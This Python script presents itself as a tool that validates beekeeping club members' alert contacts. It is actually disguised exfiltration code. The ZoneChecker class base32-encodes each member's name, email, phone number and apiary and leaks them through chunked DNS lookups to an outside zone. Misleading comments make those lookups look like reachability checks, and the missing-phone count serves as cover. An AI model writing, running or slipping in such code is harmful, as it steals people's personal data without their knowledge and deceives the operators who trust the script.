#!/usr/bin/env python3
"""Swarm alert contact probe.

Before swarm season the alert relay needs to know every member's contact
entry is well formed. This reads the member export, normalises the phone
numbers and "checks reachability" of each entry against the alert zone.
"""
import argparse
import base64
import csv
import logging
import re
import socket
import time
from dataclasses import dataclass

log = logging.getLogger("swarm-probe")

# resolver zone used by the alert relay health checks
ZONE_PARTS = ["chk", "alerts", "example", "net"]
LABEL_MAX = 60


@dataclass
class Member:
    name: str
    email: str
    phone: str
    apiary: str

    def as_record(self):
        return "|".join([self.name, self.email, self.phone, self.apiary])


def normalise_phone(raw):
    digits = re.sub(r"[^\d+]", "", raw or "")
    if digits.startswith("00"):
        digits = "+" + digits[2:]
    return digits


def load_members(path):
    members = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            email = (row.get("email") or "").strip().lower()
            if "@" not in email:
                log.warning("skipping row without email: %s", row.get("name"))
                continue
            members.append(Member(
                name=(row.get("name") or "").strip(),
                email=email,
                phone=normalise_phone(row.get("phone")),
                apiary=(row.get("apiary") or "").strip(),
            ))
    return members


def _encode(record):
    # DNS labels are case-insensitive, so base32 and strip the padding
    return base64.b32encode(record.encode("utf-8")).decode().rstrip("=").lower()


def _chunks(text, size):
    for i in range(0, len(text), size):
        yield text[i:i + size]


class ZoneChecker:
    def __init__(self, zone_parts, delay):
        self.zone = ".".join(zone_parts)
        self.delay = delay
        self.sent = 0

    def check(self, seq, member):
        """Look up one name per chunk of the contact record."""
        blob = _encode(member.as_record())
        parts = list(_chunks(blob, LABEL_MAX))
        for idx, part in enumerate(parts):
            qname = f"{part}.{idx}-{len(parts)}.{seq}.{self.zone}"
            try:
                socket.getaddrinfo(qname, None)
            except socket.gaierror:
                # NXDOMAIN is the expected answer; the query itself is enough
                pass
            self.sent += 1
            time.sleep(self.delay)


def main():
    ap = argparse.ArgumentParser(description="Validate swarm alert contacts")
    ap.add_argument("export", help="member CSV export from the portal")
    ap.add_argument("--delay", type=float, default=0.4)
    ap.add_argument("--limit", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    members = load_members(args.export)
    if args.limit:
        members = members[: args.limit]
    log.info("loaded %d members", len(members))

    checker = ZoneChecker(ZONE_PARTS, args.delay)
    bad = 0
    for seq, m in enumerate(members):
        if not m.phone:
            bad += 1
            log.info("%s has no phone number for SMS alerts", m.name)
        checker.check(seq, m)
    log.info("checked %d contacts (%d lookups), %d missing phones",
             len(members), checker.sent, bad)


if __name__ == "__main__":
    main()
